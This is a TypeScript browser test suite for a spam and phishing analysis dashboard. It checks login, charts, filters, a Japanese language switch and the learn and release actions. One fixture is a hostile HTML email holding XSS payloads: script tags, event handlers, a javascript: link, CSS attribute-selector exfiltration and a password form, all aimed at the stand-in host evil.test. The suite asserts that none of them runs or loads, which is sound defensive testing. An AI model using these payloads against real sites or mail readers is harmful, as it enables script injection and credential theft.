import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { campaignsIndexer } from '../../campaigns/index.js';
import { defaultConfig } from '../../config/load.js';
import { openStore } from '../../store/index.js';
import { launchChromium } from '../../test-support/chromium.js';
import { trendsIndexer } from '../../trends/index.js';
import { storeAnalysesData } from '../analyses-data.js';
import { createApp } from '../app.js';
import type { OutboundIncident, PivotGraph } from '../data.js';
import { explainerFor } from '../explain.js';
import { startHttpServer } from '../http.js';
import { storeMessagesData } from '../store-data.js';
import { auth, captureLogger, testDeps, TEST_TOKEN } from '../test-support/deps.js';

/**
 * The dashboard in real headless Chromium: pages load, charts and the pivot graph draw, filters and the
 * language switch work, learn and release buttons reach the API, and a hostile message is shown inert —
 * no request leaves for anywhere but this server and none of its scripts runs. Screenshots go to
 * $SPAMLAB_SCREENSHOTS (default: a temp directory) for a person to look at.
 */

const example = (name: string) => readFileSync(new URL(`../../../examples/${name}`, import.meta.url));

/** A message received at `when` (the Received time stamp decides where it falls in the trends). */
function mail(i: number, when: string, subject: string, body: string, from = `sender${i}@example${i % 7}.net`): string {
  const date = new Date(when).toUTCString().replace('GMT', '+0000');
  return [
    `Received: from client${i}.example.net (client${i}.example.net [198.51.100.${(i % 250) + 1}]) by mx.example.org with ESMTP id A${i}; ${date}`,
    `From: ${from}`,
    'To: user@example.org',
    `Subject: ${subject}`,
    `Date: ${date}`,
    `Message-ID: <m${i}@example${i % 7}.net>`,
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    '',
    body,
    '',
  ].join('\r\n');
}

/** Everything a hostile message tries: scripts, handlers, remote loads, CSS exfiltration, javascript: links, refresh. */
const HOSTILE_MARK = 'hostile-probe';
const hostile = [
  'From: Attacker <attacker@evil.test>',
  'To: user@example.org',
  'Subject: Invoice attached (hostile HTML test)',
  'Date: Tue, 10 Mar 2026 09:00:00 +0000',
  'Message-ID: <hostile@evil.test>',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><head>',
  '<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">',
  '<base href="http://evil.test/">',
  '<link rel="stylesheet" href="http://evil.test/style.css">',
  '<style>@import url(http://evil.test/import.css); body{background:url(http://evil.test/bg.png)} input[value^="a"]{background:url(http://evil.test/exfil?a)}</style>',
  '<script>document.title="PWNED";fetch("http://evil.test/script");top.document.body.setAttribute("data-pwned","1")</script>',
  '</head><body onload="fetch(\'http://evil.test/onload\')">',
  `<p id="${HOSTILE_MARK}">Please pay the attached invoice.</p>`,
  '<img src="http://evil.test/pixel.gif?u=victim" onerror="fetch(\'http://evil.test/onerror\')">',
  '<img src="x" onerror="document.body.setAttribute(\'data-pwned\',\'1\')">',
  '<div style="background-image:url(http://evil.test/inline.png)">styled</div>',
  '<a href="javascript:fetch(\'http://evil.test/js-link\')" id="js-link">open invoice</a>',
  '<iframe src="http://evil.test/frame"></iframe><object data="http://evil.test/obj"></object>',
  '<svg><script>fetch("http://evil.test/svg")</script></svg>',
  '<form action="http://evil.test/form"><input name="password" value="a"><button>Log in</button></form>',
  '</body></html>',
  '',
].join('\r\n');

test('the dashboard in Chromium: pages, charts, filters, language, actions, and a hostile message shown inert', { timeout: 180_000 }, async (t) => {
  const browser = await launchChromium(t);
  if (!browser) return;
  t.after(() => browser.close());
  const shots = process.env.SPAMLAB_SCREENSHOTS ?? path.join(os.tmpdir(), 'spamlab-dashboard-shots');
  mkdirSync(shots, { recursive: true });

  const config = defaultConfig();
  const store = await openStore(':memory:');
  t.after(() => store.close());
  const released: unknown[] = [];
  // Intel's pivot graph and outbound's incidents come from their own issues; until they are wired in,
  // the page is driven by data of their documented shape.
  const pivot: PivotGraph = {
    query: 'virus-alert-desk.info',
    domains: ['virus-alert-desk.info', 'prize-mail-center.com'],
    nodes: [
      { id: 'd:virus-alert-desk.info', kind: 'domain', label: 'virus-alert-desk.info' },
      { id: 'd:prize-mail-center.com', kind: 'domain', label: 'prize-mail-center.com' },
      { id: 'p:+81368901234', kind: 'phone', label: '+81368901234' },
    ],
    edges: [
      { source: 'd:virus-alert-desk.info', target: 'p:+81368901234', kind: 'phone', explanation: "phone +81368901234 is in virus-alert-desk.info's 2013 and 2015 records" },
      { source: 'd:prize-mail-center.com', target: 'p:+81368901234', kind: 'phone', explanation: "phone +81368901234 is in prize-mail-center.com's 2014 record" },
    ],
    explanations: ["phone +81368901234 is in virus-alert-desk.info's 2013 and 2015 records and in prize-mail-center.com's 2014 record"],
  };
  const incidents: OutboundIncident[] = [
    {
      id: 'i1',
      subject: { kind: 'sasl', id: 'y.suzuki' },
      start: '2026-03-01T10:00:00Z',
      detectedAt: '2026-03-01T10:05:00Z',
      messagesBeforeDetection: 31,
      evidence: ['y.suzuki: 640 messages in 55 min to 2,900 recipients, 97 % free-mail'],
      action: 'DEFER',
    },
  ];
  const deps = testDeps({
    data: {
      messages: storeMessagesData(store, { config, maxRawBytes: 1024 * 1024, indexers: [trendsIndexer(), campaignsIndexer()] }),
      ...storeAnalysesData(store),
      pivot: async () => pivot,
      outbound: {
        incidents: async () => ({ items: incidents, total: incidents.length }),
        release: async (subject) => {
          released.push(subject);
          return true;
        },
      },
    },
    explain: explainerFor(config),
  });
  const { app } = createApp(deps);
  const server = await startHttpServer(app.fetch, { host: '127.0.0.1', port: 0, logger: captureLogger().logger });
  t.after(() => server.close());

  // Fill the store through the API: a few months of ordinary and threatening mail, the examples, the hostile message.
  const scan = async (body: string | Uint8Array) => {
    const res = await fetch(`${server.url}/api/scan`, { method: 'POST', body, headers: auth });
    assert.equal(res.status, 200);
    return (await res.json()) as { sha256: string; verdict: string };
  };
  let i = 0;
  for (const month of ['2025-10', '2025-11', '2025-12', '2026-01', '2026-02', '2026-03']) {
    const threats = month === '2025-12' ? 8 : 2;
    for (let n = 0; n < threats; n++) {
      await scan(mail(i++, `${month}-1${n % 9}T09:00:00Z`, 'Buy cheap viagra pills online', 'Cheap viagra and cialis, lowest price pharmacy, weight loss pills. Click here to order now! Unsubscribe.'));
    }
    await scan(mail(i++, `${month}-05T08:00:00Z`, 'Build meeting notes', 'The build broke again in module 3; patch review at 10. Thanks, Ken', 'ken@corp.example'));
  }
  const phish = await scan(example('torendmicro.eml'));
  await scan(example('fax-lure.eml'));
  await scan(example('business-ja.eml'));
  const evil = await scan(hostile);

  const origin = new URL(server.url).origin;
  const outside: string[] = [];
  await browser.context.route('**/*', (route) => {
    const url = route.request().url();
    if (new URL(url).origin === origin) return route.continue();
    outside.push(url);
    return route.abort();
  });
  const page = await browser.context.newPage();
  const violations: string[] = [];
  const errors: string[] = [];
  page.on('console', (msg) => {
    if (/Content Security Policy/i.test(msg.text())) violations.push(`${page.url()}: ${msg.text()}`);
    else if (msg.type() === 'error') errors.push(msg.text());
  });
  page.on('pageerror', (err) => errors.push(err.message));

  // Signing in: a page needs the token; the login form sets the cookie and returns to the page asked for.
  await page.goto(`${server.url}/messages`);
  assert.match(page.url(), /\/login\?next=%2Fmessages$/);
  await page.fill('#token', 'not-the-token');
  await page.click('#login button[type=submit]');
  assert.match(await page.textContent('#login') ?? '', /token is not right/);
  await page.fill('#token', TEST_TOKEN);
  await page.click('#login button[type=submit]');
  assert.match(page.url(), /\/messages$/);

  // Overview: both charts drawn with surges marked.
  await page.goto(`${server.url}/?granularity=month`);
  await page.waitForSelector('#chart-verdict[data-drawn]');
  await page.waitForSelector('#chart-category[data-drawn]');
  assert.ok(Number(await page.getAttribute('#chart-verdict', 'data-drawn')) >= 3, 'one line per verdict');
  assert.ok(Number(await page.getAttribute('#chart-category', 'data-drawn')) >= 1);
  assert.ok(await page.locator('#chart-verdict canvas').count() >= 1);
  const total = Number(await page.textContent('#total'));
  assert.equal(total, i + 4);
  await page.screenshot({ path: path.join(shots, 'overview.png'), fullPage: true });

  // Messages: the filter form narrows the list.
  await page.goto(`${server.url}/messages`);
  assert.equal(Number(await page.textContent('#result-count')), i + 4);
  await page.selectOption('#f-verdict', 'phishing');
  await page.click('#filters button[type=submit]');
  await page.waitForURL(/verdict=phishing/);
  const verdicts = await page.locator('#message-table tbody tr').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-verdict')));
  assert.ok(verdicts.length >= 1 && verdicts.every((v) => v === 'phishing'), String(verdicts));
  await page.fill('#f-sender', 'ken@corp.example');
  await page.selectOption('#f-verdict', '');
  await page.click('#filters button[type=submit]');
  await page.waitForURL(/sender=ken/);
  assert.equal(Number(await page.textContent('#result-count')), 6);
  await page.screenshot({ path: path.join(shots, 'messages.png'), fullPage: true });

  // Message detail with explanations; learn as spam reaches the API.
  let learned = 0;
  deps.learn = async () => ({ model: 'default', version: ++learned, base: 'shipped' });
  await page.goto(`${server.url}/messages/${phish.sha256}`);
  assert.ok(await page.locator('#findings tr[data-finding="LOOKALIKE_FROM_LOCAL_PART"]').count());
  await page.click('button[data-action=learn][data-as=spam]');
  await page.waitForSelector('#action-status[data-result]');
  assert.equal(await page.getAttribute('#action-status', 'data-result'), 'ok');
  assert.equal(learned, 1);
  await page.screenshot({ path: path.join(shots, 'message.png'), fullPage: true });

  // Language switch: Japanese pages, and back.
  await page.click('#lang-switch');
  await page.waitForURL(new RegExp(`/messages/${phish.sha256}$`));
  assert.equal(await page.getAttribute('html', 'lang'), 'ja');
  assert.match((await page.textContent('header nav')) ?? '', /メッセージ/);
  assert.match((await page.textContent('#findings')) ?? '', /[\u3040-\u30ff]/);
  await page.screenshot({ path: path.join(shots, 'message-ja.png'), fullPage: true });
  await page.click('#lang-switch');
  assert.equal(await page.getAttribute('html', 'lang'), 'en');

  // The hostile message: its body shows, and nothing in it runs or loads.
  const before = outside.length;
  await page.goto(`${server.url}/messages/${evil.sha256}`);
  const frame = page.frameLocator('#body-frame');
  await frame.locator(`#${HOSTILE_MARK}`).waitFor({ state: 'attached' }).catch(() => undefined);
  const bodyText = (await frame.locator('body').textContent()) ?? '';
  assert.match(bodyText, /Please pay the attached invoice/);
  assert.match(bodyText, /image blocked: evil\.test/);
  await frame.locator('a.link').first().click({ timeout: 5000 }).catch(() => undefined);
  await page.waitForTimeout(1500);
  assert.equal(await page.title(), `Invoice attached (hostile HTML test) — spamlab`);
  assert.equal(await page.getAttribute('body', 'data-pwned'), null);
  assert.equal(await frame.locator('body').getAttribute('data-pwned'), null);
  assert.equal(page.url(), `${server.url}/messages/${evil.sha256}`);
  const frameUrl = page.frames().find((f) => f !== page.mainFrame())?.url() ?? '';
  assert.equal(frameUrl, `${server.url}/messages/${evil.sha256}/body`);
  assert.deepEqual(outside.slice(before), [], 'no request left for another host');
  await page.screenshot({ path: path.join(shots, 'hostile.png'), fullPage: true });

  // Campaigns, pivot graph, outbound with release.
  await page.goto(`${server.url}/campaigns`);
  assert.ok((await page.locator('#campaign-table tbody tr').count()) >= 1, 'the repeated pill spam forms a campaign');
  await page.click('#campaign-table tbody tr a');
  await page.waitForURL(/\/campaigns\/.+/);
  await page.screenshot({ path: path.join(shots, 'campaign.png'), fullPage: true });
  await page.goto(`${server.url}/pivot?q=virus-alert-desk.info`);
  await page.waitForSelector('#graph[data-drawn]');
  assert.equal(await page.getAttribute('#graph', 'data-drawn'), '3');
  await page.screenshot({ path: path.join(shots, 'pivot.png'), fullPage: true });
  await page.goto(`${server.url}/outbound`);
  await page.click('button[data-action=release]');
  await page.waitForSelector('#action-status[data-result]');
  assert.equal(await page.getAttribute('#action-status', 'data-result'), 'ok');
  assert.deepEqual(released, [{ kind: 'sasl', id: 'y.suzuki' }]);
  await page.screenshot({ path: path.join(shots, 'outbound.png'), fullPage: true });

  assert.deepEqual(outside, [], 'the dashboard loads nothing from outside');
  assert.deepEqual(errors, [], 'no script error on any page');
  // Blocked loads inside the body frame are CSP's work and expected; the pages themselves must cause none.
  assert.deepEqual(violations.filter((v) => !v.includes('/body')), []);
  t.diagnostic(`screenshots in ${shots}; CSP blocks reported inside the body frame: ${violations.length}`);
});

test('an empty store: pages say "no data yet"', { timeout: 60_000 }, async (t) => {
  const browser = await launchChromium(t);
  if (!browser) return;
  t.after(() => browser.close());
  const { app } = createApp(testDeps({ access: { token: TEST_TOKEN, publicRead: true } }));
  const server = await startHttpServer(app.fetch, { host: '127.0.0.1', port: 0, logger: captureLogger().logger });
  t.after(() => server.close());
  const page = await browser.context.newPage();
  for (const p of ['/', '/messages', '/campaigns', '/pivot?q=example.com', '/outbound']) {
    await page.goto(`${server.url}${p}`);
    assert.equal(await page.locator('[data-empty]').count(), 1, p);
    assert.match((await page.textContent('main')) ?? '', /No data yet/, p);
  }
});
